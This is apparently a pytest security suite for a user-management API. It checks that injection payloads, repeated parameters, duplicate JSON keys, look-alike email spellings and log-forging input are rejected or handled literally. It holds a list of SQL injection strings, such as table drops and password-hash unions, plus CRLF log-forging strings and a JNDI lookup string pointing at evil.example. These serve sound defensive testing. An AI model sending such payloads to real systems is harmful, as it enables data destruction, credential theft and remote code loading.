"""VAL-06 (injection), VAL-07 (parameter pollution), VAL-08 (email normalisation)
and VAL-09 (log injection)."""

from __future__ import annotations

import json
import uuid

import httpx
import jwt
from sqlalchemy import func, select

from gatehouse.users.models import User
from tests.factories import Api, assert_envelope
from tests.logs import capture_json_logs
from tests.security.access_support import NEW_PASSWORD, new_email, snapshot

INJECTIONS = [
    "' OR '1'='1",
    "' OR 1=1--",
    '" OR ""="',
    "' OR ''='",
    "') OR ('1'='1",
    "') OR 1=1 LIMIT 1 --",
    "admin'--",
    'admin" --',
    "'; DROP TABLE users;--",
    "1; DELETE FROM users",
    "1' ORDER BY 1--",
    "' UNION SELECT password_hash, email FROM users--",
    "' || (SELECT password_hash FROM users LIMIT 1) || '",
    "'; SELECT pg_sleep(5)--",
    "' OR pg_sleep(1) IS NULL--",
    "' AND SLEEP(5)--",
    "1 AND (SELECT COUNT(*) FROM users) > 0",
    "\\' OR 1=1 --",
    "%",
    "%%",
    "_",
    "__%__",
    "\\",
    "\\%",
    "[a-z]%",
    "*",
    "'",
    '"',
    "`",
    ";",
    "--",
    "/*",
    "*/",
    "@@version",
    "char(39)",
    "0x27",
    "%27",
    "%' OR email LIKE '%",
    "\uff07 OR \uff071\uff07=\uff071",
    "\u02bc OR 1=1",
    "?",
    ":name",
    "%(name)s",
    "{0}",
    "${7*7}",
    "{{7*7}}",
    '{"$ne": null}',
    "$where",
    "password_hash",
    "users.password_hash",
    "created_at; DROP TABLE users",
    "email desc, password_hash",
]


async def test_injection_payloads_in_list_parameters_find_nothing_and_break_nothing(
    api: Api,
) -> None:
    admin = await api.user("admin", name="Alice Admin")
    for name in ("Bob Builder", "Carol Reader", "Dan Plain"):
        await api.create_user("user", name=name)
    before = await snapshot(api)
    async with api.runtime.db.session(write=False) as s:
        people = [(u.email, u.name.lower()) for u in await s.scalars(select(User))]
    sent = 0
    for payload in INJECTIONS:
        search = await api.client.get(
            "/api/v1/users", params={"search": payload}, headers=admin.headers
        )
        assert search.status_code == 200, (payload, search.text)
        # A search is a literal substring match, nothing more.
        term = payload.lower()
        matching = sum(1 for email, name in people if term in email or term in name)
        assert search.json()["meta"]["total_count"] == matching, payload
        sent += 1
        for parameter in ("sort_by", "order", "role"):
            response = await api.client.get(
                "/api/v1/users", params={parameter: payload}, headers=admin.headers
            )
            assert_envelope(response, 400, "VALIDATION_ERROR")
            sent += 1
    assert await snapshot(api) == before
    print(f"\nVAL-06: {len(INJECTIONS)} payloads x 4 parameters = {sent} requests, 0 x 500")


async def test_repeated_query_parameters_never_widen_what_a_role_sees(api: Api) -> None:
    admin = await api.user("admin")
    readonly = await api.user("readonly")
    user = await api.user("user")
    gone = await api.user("user")
    await api.client.delete(f"/api/v1/users/{gone.id}", headers=admin.headers)

    polluted = "/api/v1/users?role=user&role=admin"
    first = await api.client.get(polluted, headers=admin.headers)
    second = await api.client.get(polluted, headers=admin.headers)
    assert first.status_code == second.status_code == 200
    assert first.json()["data"] == second.json()["data"]
    assert len({row["role"] for row in first.json()["data"]}) == 1

    for query in (
        "include_deleted=false&include_deleted=true",
        "include_deleted=true&include_deleted=false",
    ):
        response = await api.client.get(f"/api/v1/users?{query}", headers=readonly.headers)
        assert response.status_code in (200, 403)
        assert str(gone.id) not in response.text
        again = await api.client.get(f"/api/v1/users?{query}", headers=readonly.headers)
        assert again.status_code == response.status_code
    for query in ("role=user&role=admin", "page_size=1&page_size=100"):
        response = await api.client.get(f"/api/v1/users?{query}", headers=user.headers)
        assert_envelope(response, 403, "FORBIDDEN")


async def post_raw(api: Api, url: str, raw: str) -> httpx.Response:
    return await api.client.post(
        url, content=raw.encode(), headers={"Content-Type": "application/json"}
    )


async def test_duplicate_json_keys_are_deterministic_and_never_grant_more(api: Api) -> None:
    admin = await api.user("admin")
    user = await api.user("user")
    victim = await api.user("user", password="Quartz-Lantern-5820")
    before = await snapshot(api)
    email = new_email()
    register = await post_raw(
        api,
        "/api/v1/auth/register",
        f'{{"email": "{email}", "name": "Dup", "password": "{NEW_PASSWORD}",'
        ' "role": "user", "role": "admin"}',
    )
    assert_envelope(register, 400, "VALIDATION_ERROR")
    me = await api.client.request(
        "PATCH",
        "/api/v1/users/me",
        content=b'{"name": "Dup", "role": "user", "role": "admin"}',
        headers={**user.headers, "Content-Type": "application/json"},
    )
    assert_envelope(me, 400, "VALIDATION_ERROR")
    assert await snapshot(api) == before

    # Where both values are allowed, the last one wins, every time.
    for _ in range(2):
        edit = await api.client.request(
            "PATCH",
            f"/api/v1/users/{victim.id}",
            content=b'{"role": "admin", "role": "readonly"}',
            headers={**admin.headers, "Content-Type": "application/json"},
        )
        assert edit.json()["role"] == "readonly"

    # Two usernames, one password: the token is for whoever the last one names, or none.
    raw = '{{"username": "{}", "username": "{}", "password": "{}"}}'
    token = await post_raw(
        api, "/api/v1/auth/token", raw.format(victim.email, user.email, user.password)
    )
    assert token.status_code == 200
    claims = jwt.decode(token.json()["access_token"], options={"verify_signature": False})
    assert claims["sub"] == str(user.id)
    swapped = await post_raw(
        api, "/api/v1/auth/token", raw.format(user.email, victim.email, user.password)
    )
    assert_envelope(swapped, 401, "INVALID_CREDENTIALS")
    form = await api.client.post(
        "/api/v1/auth/token",
        content=f"grant_type=password&username={user.email}&username={victim.email}"
        f"&password={user.password}".encode(),
        headers={"Content-Type": "application/x-www-form-urlencoded"},
    )
    assert_envelope(form, 400, "VALIDATION_ERROR")


async def test_one_address_has_one_account_whatever_its_spelling(api: Api) -> None:
    first = await api.client.post(
        "/api/v1/auth/register",
        json={"email": "Admin@x.com", "name": "First Person", "password": NEW_PASSWORD},
    )
    assert first.status_code == 202, first.text
    admin = await api.user("admin")
    spellings = [
        "admin@x.com ",
        " ADMIN@X.COM",
        "\uff41\uff44\uff4d\uff49\uff4e@x.com",  # fullwidth "admin"
        "admin@\uff58.com",  # fullwidth "x"
        "Admin@X.Com",
    ]
    for spelling in spellings:
        body = {"email": spelling, "name": "Second Person", "password": NEW_PASSWORD}
        error = assert_envelope(
            await api.client.post("/api/v1/users", json=body, headers=admin.headers),
            400,
            "VALIDATION_ERROR",
        )
        assert error["details"] == {"email": ["Email already exists"]}
        # Sign-up answers a taken address as a new one (and makes nothing).
        signup = await api.client.post("/api/v1/auth/register", json=body)
        assert signup.status_code == 202, signup.text
    async with api.runtime.db.session(write=False) as s:
        count = await s.scalar(
            select(func.count()).select_from(User).where(User.email.like("%@x.com"))
        )
    assert count == 1
    print(f"\nVAL-08: {2 * len(spellings)} other spellings refused, 1 account")


async def test_log_lines_stay_single_json_records_whatever_the_input(api: Api) -> None:
    user = await api.user("user")
    forged = "bob\r\n2025-01-01 INFO admin login ok"
    ansi = "\x1b[31mred\x1b[0m"
    requests = [
        (
            "POST",
            "/api/v1/auth/register",
            {"email": new_email(), "name": forged, "password": NEW_PASSWORD},
            {},
            400,
        ),
        (
            "POST",
            "/api/v1/auth/register",
            {"email": new_email(), "name": ansi, "password": NEW_PASSWORD},
            {},
            400,
        ),
        (
            "POST",
            "/api/v1/auth/register",
            {"email": f"bob\r\n{new_email()}", "name": "Bob", "password": NEW_PASSWORD},
            {},
            400,
        ),
        ("PATCH", "/api/v1/users/me", {"name": f"Bob{forged}"}, user.headers, 400),
        ("POST", "/api/v1/auth/token", {"username": forged, "password": "x"}, {}, 401),
        ("GET", "/api/v1/users/%0D%0A2025-01-01%20INFO%20fake", None, user.headers, 400),
        ("GET", "/nope%0D%0Afake%1B[31m", None, {}, 404),
        ("GET", "/health", None, {"X-Request-ID": "abc\r\n2025-01-01 INFO fake"}, 200),
        ("GET", "/health", None, {"User-Agent": forged, "X-Forwarded-For": forged}, 200),
        (
            "POST",
            "/api/v1/auth/register",
            {
                "email": new_email(),
                "name": "${jndi:ldap://evil.example/a}",
                "password": NEW_PASSWORD,
            },
            {},
            202,
        ),
    ]
    with capture_json_logs() as logs:
        for method, url, body, headers, status in requests:
            response = await api.client.request(method, url, json=body, headers=headers)
            assert response.status_code == status, (url, response.text)
            assert "\r" not in response.headers["x-request-id"]
    lines = logs.text().splitlines()
    records = [json.loads(line) for line in lines]  # every line is one JSON object
    assert all(isinstance(record, dict) and "event" in record for record in records)
    assert [r["event"] for r in records].count("http.request") == len(requests)
    assert not any(line.startswith("2025-01-01") for line in lines)
    assert "\x1b" not in logs.text()
    assert all(uuid.UUID(r["request_id"]) for r in records if r["event"] == "http.request")
    print(f"\nVAL-09: {len(requests)} hostile requests, {len(lines)} log lines, all single JSON")
